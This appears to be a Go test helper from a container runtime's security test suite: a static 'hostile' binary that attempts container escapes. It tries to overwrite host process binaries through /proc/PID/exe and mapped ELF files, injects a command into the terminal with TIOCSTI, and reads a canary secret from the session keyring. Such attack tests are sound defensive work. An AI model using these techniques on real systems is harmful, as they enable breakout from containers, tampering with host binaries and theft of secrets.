// Command hostile is what an attacker runs in a container. It is static, so
// that it runs in any.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "sleep":
		time.Sleep(time.Hour)
	case "overwrite":
		overwrite()
	case "type":
		typeLine()
	case "key":
		readKey()
	case "become":
		// The binary that this runs from is what /proc/self/exe is up to then.
		fmt.Println(unix.Exec(os.Args[2], os.Args[2:], nil))
	case "mapped":
		overwriteMapped(os.Args[2])
	case "self":
		tellSelf()
	}
}

// overwrite takes hold of the binary of each process that /victims names, a
// pid and a word a line, and tries to write to it, while it runs and after
// that, until there is a file /stop. It says which it has got hold of and which
// it has written to.
func overwrite() {
	held := map[string]int{}
	won := map[string]bool{}
	for {
		victims, _ := os.ReadFile("/victims")
		for line := range strings.Lines(string(victims)) {
			pid, name, whole := strings.Cut(strings.TrimSpace(line), " ")
			if _, ok := held[name]; ok || !whole || !strings.HasSuffix(line, "\n") {
				continue
			}
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				held[name] = fd
				fmt.Println("held", name)
			}
		}
		for name, fd := range held {
			if !won[name] && write(fd) {
				won[name] = true
				fmt.Println("wrote", name)
			}
		}
		if _, err := os.Stat("/stop"); err == nil {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// write tries the file as it is, and again after everything that a root could
// do to make it writable.
func write(fd int) bool {
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	writable := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	for _, prepare := range []func(){
		func() {},
		func() { _ = unix.Chmod(path, 0o777) },
		func() { _ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, writable) },
		func() { _ = unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, "") },
		func() { _ = unix.Mount("", path, "", unix.MS_REMOUNT, "") },
	} {
		prepare()
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		n, err := unix.Write(w, []byte("overwritten"))
		unix.Close(w)
		if err == nil && n > 0 {
			return true
		}
	}
	return false
}

// overwriteMapped writes to every file that a program of this name maps, but
// the program, until there is a file /stop: an ELF interpreter is mapped, and
// nobody's /proc/PID/exe.
func overwriteMapped(program string) {
	fmt.Println("ready")
	seen := map[string]bool{}
	for {
		commands, _ := filepath.Glob("/proc/[0-9]*/cmdline")
		for _, command := range commands {
			line, _ := os.ReadFile(command)
			name, _, _ := strings.Cut(string(line), "\x00")
			if filepath.Base(name) != program {
				continue
			}
			files, _ := filepath.Glob(filepath.Dir(command) + "/map_files/*")
			for _, file := range files {
				overwriteOnce(file, program, seen)
			}
		}
		if _, err := os.Stat("/stop"); err == nil {
			return
		}
	}
}

func overwriteOnce(file, program string, seen map[string]bool) {
	target, err := os.Readlink(file)
	if err != nil || filepath.Base(target) == program || seen[target] {
		return
	}
	fd, err := unix.Open(file, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	seen[target] = true
	fmt.Println("mapped", target)
	if write(fd) {
		fmt.Println("wrote", target)
	}
}

// tellSelf says what a process can know of itself that mocker had otherwise.
func tellSelf() {
	for _, ask := range []struct {
		name   string
		option int
	}{{"dumpable", unix.PR_GET_DUMPABLE}, {"securebits", unix.PR_GET_SECUREBITS}, {"keepcaps", unix.PR_GET_KEEPCAPS}, {"timerslack", unix.PR_GET_TIMERSLACK}} {
		value, err := unix.PrctlRetInt(ask.option, 0, 0, 0, 0)
		fmt.Println(ask.name, value, err)
	}
	persona, _ := os.ReadFile("/proc/self/personality")
	fmt.Print("personality ", string(persona))
	var limit unix.Rlimit
	_ = unix.Prlimit(0, unix.RLIMIT_NOFILE, nil, &limit)
	fmt.Println("descriptors", limit.Max) // Go raises the other
	if attr, err := unix.SchedGetAttr(0, 0); err == nil {
		fmt.Println("priorities", attr.Policy, attr.Nice)
	}
	fmt.Println("umask", unix.Umask(0))
	status, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(status)) {
		for _, name := range []string{"Groups", "CapInh", "CapAmb", "NoNewPrivs", "SigIgn", "TracerPid"} {
			if value, ok := strings.CutPrefix(line, name+":"); ok {
				fmt.Println(name, strings.Join(strings.Fields(value), ","))
			}
		}
	}
	fds, _ := os.ReadDir("/proc/self/fd")
	for _, fd := range fds {
		target, err := os.Readlink("/proc/self/fd/" + fd.Name())
		if n, _ := strconv.Atoi(fd.Name()); err == nil && n > 2 && !ofGo(target) {
			fmt.Println("descriptor", fd.Name(), target)
		}
	}
	for _, link := range []string{"exe", "cwd", "root"} {
		target, _ := os.Readlink("/proc/self/" + link)
		fmt.Println(link, target)
	}
}

// ofGo reports whether a descriptor is one of the Go runtime's.
func ofGo(target string) bool {
	return strings.HasPrefix(target, "anon_inode:[event") || strings.HasPrefix(target, "/sys/fs/cgroup/") &&
		(strings.HasSuffix(target, "/cpu.max") || strings.HasSuffix(target, "/cpu.cfs_quota_us") || strings.HasSuffix(target, "/cpu.cfs_period_us"))
}

// typeLine puts a line into the input of its terminal and of its standard
// input, as if somebody had typed it there.
func typeLine() {
	fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0)
	if err != nil {
		fmt.Print("no ")
		fd = 0
	}
	fmt.Print("/dev/tty, ")
	for _, c := range []byte("id\n") {
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(c)); err != nil {
			fmt.Println("refused:", err)
			return
		}
	}
	fmt.Println("typed")
}

// readKey says what its session keyring is, and what is in a key of the caller.
func readKey() {
	name, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		fmt.Println(err)
		return
	}
	key, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", "security-canary", 0)
	if err != nil {
		fmt.Printf("%s: %v\n", name, err)
		return
	}
	secret := make([]byte, 64)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, key, secret, 0)
	fmt.Printf("%s: %q, %v\n", name, secret[:max(n, 0)], err)
}
